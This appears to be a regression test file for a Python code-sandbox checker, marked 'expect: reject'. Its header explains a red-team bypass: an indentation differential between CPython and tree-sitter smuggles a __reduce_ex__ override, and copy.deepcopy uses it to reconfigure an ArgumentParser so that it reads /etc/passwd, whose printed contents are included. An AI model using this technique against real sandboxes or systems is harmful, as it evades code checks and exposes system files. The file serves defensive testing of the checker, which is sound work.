# expect: reject syntax
# line: 22
# verified: reaches its goal under plain python3 (3.11) in a temp dir (seventh static red team, ok_12_tab_indent_differential_class_body_reduce_ex_forged_argparse_state_passwd)
# Mechanism: tab differential used the other way: '7 spaces + tab' then 8 spaces is one class body for CPython, but tree-sitter dedents the second line to module level, where binding __reduce_ex__ is allowed. copy.deepcopy(K()) runs forge(), whose reduce tuple (lambda: p, (), {'fromfile_prefix_chars': '@'}) makes copy write the refused option into the program's live ArgumentParser (y.__dict__.update(state)); parse_args(['@/etc/passwd']) reads the file
# Goal reached: /etc/passwd read (no private name, no run-time name, no unittest)
# Output under python3 (3.11.7, fresh temp dir, env -i PATH HOME MARKER=round7-marker):
#   ['root:x:0:0:root:/root:/bin/bash', 'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin', 'bin:x:2:2:bin:/bin:/usr/sbin/nologin', 'sys:x:3:3:sys:/dev:/usr/sbin/nologin', 'sync:x:4:65534:sync:/bin:/bin/sync']

import argparse
import copy

p = argparse.ArgumentParser(prog="x")
p.add_argument("rest", nargs="*")


def forge(self, proto):
    return (lambda: p, (), {"fromfile_prefix_chars": "@"})


class K:
       	x = 0
        __reduce_ex__ = forge


copy.deepcopy(K())
print(p.parse_args(["@/etc/passwd"]).rest[:5])
